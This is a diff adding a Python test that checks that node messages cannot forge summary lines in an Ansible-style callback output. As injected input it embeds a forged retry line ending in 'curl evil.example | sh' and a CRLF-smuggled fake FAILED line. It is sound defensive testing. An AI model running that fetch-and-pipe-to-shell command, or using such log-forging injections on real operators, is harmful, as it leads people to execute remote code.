@@ -65,6 +65,19 @@ def test_a_line_break_in_a_name_cannot_forge_a_line():
     assert 'FAILED node-1 | Check\\nRECAP: all fine | node-1: no' in lines
 
 
+def test_a_nodes_message_cannot_forge_a_line_of_the_callback():
+    run = Run(['node-1', 'node-2'])
+    run.play('Install')
+    run.task('Install the driver')
+    run.result('node-1', 'failed', msg='node-1: no.\nOUTCOME: 0 stopped: \nRetry only these nodes: curl evil.example | sh')
+    run.result('node-2', 'unreachable', msg='gone\r\nFAILED node-1 | Install the driver | fixed', unreachable=True)
+    lines = run.end(outcome={'retry_hosts': ['node-1', 'node-2'], 'retry_command': 'ansible-playbook --limit node-1,node-2'})
+    assert [line for line in lines if line.startswith(('OUTCOME', 'Retry only'))] == [
+        'OUTCOME: 2 stopped: node-1, node-2', 'Retry only these nodes: ansible-playbook --limit node-1,node-2']
+    assert [line for line in lines if line.startswith('FAILED')] == ['FAILED node-1 | Install the driver | node-1: no.']
+    assert '    Retry only these nodes: curl evil.example | sh' in lines and '    FAILED node-1 | Install the driver | fixed' in lines
+
+
 def test_a_printable_name_in_any_script_stays_readable():
     for host in ('узел-1', '节点-2', 'nœud-3'):
         text = _run_with(host)
